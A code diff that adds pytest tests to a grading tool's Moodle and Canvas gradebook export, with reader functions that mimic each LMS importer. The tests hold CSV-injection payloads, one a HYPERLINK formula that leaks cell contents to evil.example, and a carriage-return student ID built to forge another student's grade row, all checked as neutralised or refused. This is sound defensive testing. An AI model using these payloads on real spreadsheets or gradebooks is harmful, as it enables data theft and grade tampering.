@@ -202,3 +202,180 @@ def test_python_function_and_refusals(graded: Path) -> None:
     cli("gradebook", str(graded), "--format", "xls", code=2)
     _, err = cli("gradebook", str(graded), "--partial", "--id-column", "phone", code=2)
     assert "has no 'phone'" in err
+
+
+# -- issue 42: gradebook files an LMS and a spreadsheet read safely ------------------------------------------------
+#
+# The readers below follow the importers' code, not only their documentation:
+# * Moodle: lib/csvlib.class.php (csv_import_reader::load_csv_content: the BOM removed, every "\r\n" and lone "\r"
+#   turned into "\n", the content trimmed, then fgetcsv) and grade/import/csv/classes/load_data.php (every value
+#   trimmed; the user column read only when !empty($value), so "" and "0" keep the user of the row before; an
+#   empty cell or "-" is "no grade", which clears the grade there);
+# * Canvas: app/models/gradebook_importer.rb (a header Student, ID[, SIS User ID, SIS Login ID], Section; trailing
+#   total columns dropped; "Name (12345)" is the existing assignment 12345; a row whose first cell matches
+#   /Points Possible/ is the points row; a row is matched by ID, SIS User ID, SIS Login ID, then the name).
+
+def read_moodle(text: str) -> tuple[list[str], list[tuple[str | None, dict[str, float | None]]]]:
+    """(header, [(user the row's grades go to, item -> grade)]) as Moodle's CSV grade import reads them."""
+    text = re.sub(r"\r\n?", "\n", text.lstrip("\ufeff")).strip()
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    head = [h.strip() for h in rows[0]]
+    at = next(i for i, h in enumerate(head) if h in MOODLE_IDS)
+    user: str | None = None  # not reset between rows, as in load_data.php
+    out: list[tuple[str | None, dict[str, float | None]]] = []
+    for line in rows[1:]:
+        if len(line) <= 1:
+            continue
+        values = [v.strip(" \t\n\r\0\x0b") for v in line]
+        if values[at] not in ("", "0"):  # PHP's !empty()
+            user = values[at]
+        cells = enumerate(zip(head, values, strict=True))
+        out.append((user, {h: None if v in ("", "-") else float(v) for i, (h, v) in cells if i != at}))
+    return head, out
+
+
+CANVAS_TOTALS = re.compile(r"Current Score|Current Points|Final Score|Final Points|Final Grade")
+
+
+def read_canvas(text: str) -> tuple[list[tuple[str, str | None]], dict[str, str], list[tuple[str, dict[str, str]]]]:
+    """([(assignment title, existing id or None)], points possible, [(student key, title -> cell)]) as Canvas's
+    gradebook importer reads them."""
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    head = rows[0]
+    assert re.search("Student", head[0]) and re.search("ID", head[1])
+    columns = 5 if re.search(r"SIS\s+User\s+ID", head[2]) and re.search(r"SIS\s+Login\s+ID", head[3]) else 3
+    assert re.search("Section", head[columns - 1])
+    names = head[columns:]
+    while names and CANVAS_TOTALS.search(names[-1]):
+        names.pop()
+    assignments = [(m[1], m[2]) if (m := re.fullmatch(r"(.*)\s\((\d+)\)", n)) else (n, None) for n in names]
+    points: dict[str, str] = {}
+    students: list[tuple[str, dict[str, str]]] = []
+    for row in rows[1:]:
+        if re.search("Points Possible", row[0]):
+            points = dict(zip([a for a, _ in assignments], row[columns:], strict=True))
+            continue
+        if all(re.fullmatch(r"(?i)(Muted|)", c.strip()) for c in row):
+            continue
+        key = row[1] or row[2] or row[3] or row[0]
+        students.append((key, dict(zip([a for a, _ in assignments], row[columns:], strict=True))))
+    return assignments, points, students
+
+
+def exam_store(tmp_path: Path, examinees: list[str], question: str = "quiz/1") -> Path:
+    """A store graded by the scripted judge (a SIMULATION) whose answers all have an expert grade: examinee
+    ``i`` has ``i % 3`` points of 2."""
+    rows: list[dict[str, object]] = [{"type": "question", "id": question, "text": "What does DNS do?",
+                                      "max_points": 2}]
+    rows += [{"type": "answer", "id": f"a{i}", "question_id": question, "examinee": e, "text": f"answer {i}",
+              "human_score": i % 3} for i, e in enumerate(examinees)]
+    data = tmp_path / "exam.jsonl"
+    data.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    db = tmp_path / "g.db"
+    cli("grade", str(data), "--judge", "scripted", "--out", str(db), "--json", "--quiet")
+    return db
+
+
+def one_error(err: str) -> str:
+    lines = [ln for ln in err.splitlines() if ln.strip()]
+    assert len(lines) == 1 and "Traceback" not in err, err
+    return lines[0]
+
+
+def test_a_cr_in_an_id_cannot_add_a_row_for_another_student(tmp_path: Path) -> None:
+    """``zz\\rs_victim`` (2 points) beside ``s_victim`` (0 points): written unquoted, Moodle read a second
+    ``s_victim`` row after the real one, with the attacker's grade."""
+    db = exam_store(tmp_path, ["s_victim", "zz\rs_victim", "x"])
+    _, rows = read_moodle(cli("gradebook", str(db), "--format", "moodle")[0])
+    assert [u for u, _ in rows].count("s_victim") == 1
+    assert [g for u, g in rows if u == "s_victim"] == [{"quiz/1": 0.0}]
+    assert ("zz\ns_victim", {"quiz/1": 1.0}) in rows  # one user that Moodle does not know: the import stops
+    _, _, students = read_canvas(cli("gradebook", str(db), "--format", "canvas")[0])
+    assert [k for k, _ in students].count("s_victim") == 1
+    plain = cli("gradebook", str(db))[0]
+    assert '"zz\rs_victim"' in plain
+    assert [r["student"] for r in csv.DictReader(io.StringIO(plain, newline=""))] == ["s_victim", "x", "zz\rs_victim"]
+
+
+@pytest.mark.parametrize("sid", ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-1", "@SUM(A1:A9)",
+                                 "\tadmin"])
+def test_formula_ids_neutralised_in_plain_refused_for_an_lms(sid: str, tmp_path: Path) -> None:
+    """OWASP, CSV Injection: a cell starting with =, +, -, @ or a tab is run by a spreadsheet.  The plain layout
+    prefixes it with a single quote; Moodle and Canvas must match the id as it is: refused, one line."""
+    db = exam_store(tmp_path, ["ada", sid])
+    rows = list(csv.reader(io.StringIO(cli("gradebook", str(db))[0], newline="")))
+    assert [r[0] for r in rows[1:]] == sorted(["ada", "'" + sid], key=lambda s: s.lstrip("'"))
+    assert all(not c.startswith(("=", "+", "-", "@", "\t")) for r in rows for c in r[:1] + r[-1:])
+    for fmt in ("moodle", "canvas"):
+        out, err = cli("gradebook", str(db), "--format", fmt, code=2)
+        line = one_error(err)
+        assert out == "" and "formula" in line and repr(sid) in line, line
+
+
+@pytest.mark.parametrize("pair", [("Ann", "ann"), ("bob", "bob ")])
+def test_ids_equal_after_the_lms_normalisation_are_refused(pair: tuple[str, str], tmp_path: Path) -> None:
+    db = exam_store(tmp_path, list(pair))
+    for fmt in ("moodle", "canvas"):
+        line = one_error(cli("gradebook", str(db), "--format", fmt, code=2)[1])
+        assert all(repr(s) in line for s in pair) and "ignores case" in line
+    assert len(parse_plain(cli("gradebook", str(db))[0])) == 2  # the plain layout is no import
+
+
+def test_moodle_id_0_is_refused(tmp_path: Path) -> None:
+    """Moodle skips a user cell that is empty or 0 and gives the row's grades to the student of the row before."""
+    db = exam_store(tmp_path, ["ada", "0"])
+    line = one_error(cli("gradebook", str(db), "--format", "moodle", code=2)[1])
+    assert "'0'" in line and "Moodle skips" in line
+    _, _, students = read_canvas(cli("gradebook", str(db), "--format", "canvas")[0])
+    assert sorted(k for k, _ in students) == ["0", "ada"]
+
+
+def test_canvas_student_points_possible_is_refused(tmp_path: Path) -> None:
+    db = exam_store(tmp_path, ["ada", "Points Possible"])
+    line = one_error(cli("gradebook", str(db), "--format", "canvas", code=2)[1])
+    assert "'Points Possible'" in line and "points row" in line
+    _, rows = read_moodle(cli("gradebook", str(db), "--format", "moodle")[0])
+    assert [u for u, _ in rows] == ["Points Possible", "ada"]
+
+
+def test_canvas_question_like_an_existing_assignment_is_refused(tmp_path: Path) -> None:
+    db = exam_store(tmp_path, ["ada", "ben"], question="Quiz (12345)")
+    line = one_error(cli("gradebook", str(db), "--format", "canvas", code=2)[1])
+    assert "'Quiz (12345)'" in line and "existing" in line
+    assert read_moodle(cli("gradebook", str(db), "--format", "moodle")[0])[0] == ["ID number", "Quiz (12345)"]
+
+
+def test_empty_cells_are_not_written_for_moodle_unless_asked_and_are_counted(graded: Path) -> None:
+    """An answer without a grade: an empty cell clears the grade Moodle has; refused unless --write-empty, and
+    every answer left out is counted on stderr."""
+    from knockout.storage import Store
+
+    with Store(graded) as store:
+        (run,) = store.runs()
+        store.db.execute("DELETE FROM results WHERE run_id = ? AND item_id = 'teach/2/cleo'", (run.id,))
+        store.end_run(run.id, "interrupted", "stopped by the user")
+    line = one_error(cli("gradebook", str(graded), "--partial", "--format", "moodle", code=2)[1])
+    assert "1 answer(s) without a grade (cleo teach/2)" in line and "--write-empty" in line
+    out, err = cli("gradebook", str(graded), "--partial", "--format", "moodle", "--write-empty")
+    _, rows = read_moodle(out)
+    assert dict(rows)["cleo"]["teach/2"] is None and dict(rows)["ada"]["teach/2"] is not None
+    assert "left out: 1 no grade (cleo teach/2)" in err
+    _, err = cli("gradebook", str(graded), "--partial", "--format", "canvas")
+    assert "left out: 1 no grade (cleo teach/2)" in err
+
+
+def test_unusable_web_grades_are_counted(graded: Path) -> None:
+    import sqlite3
+    import time
+
+    cli("import", str(TEACHER), "--db", str(graded))
+    con = sqlite3.connect(graded)
+    now = time.time()
+    for aid, score in (("teach/2/cleo", "a lot"), ("teach/2/eva", float("inf")), ("teach/3/finn", 99.0)):
+        con.execute("INSERT INTO human_grades (answer_id, grader, question_id, exam_id, score, version, created, "
+                    "updated) VALUES (?, 'bob', ?, 'teach', ?, 1, ?, ?)", (aid, aid.rsplit("/", 1)[0], score, now, now))
+    con.commit()
+    con.close()
+    _, err = cli("gradebook", str(graded))
+    assert ("left out: 2 web grade not a number (teach/2/cleo, teach/2/eva); 1 web grade out of range "
+            "(teach/3/finn)") in " ".join(err.split())
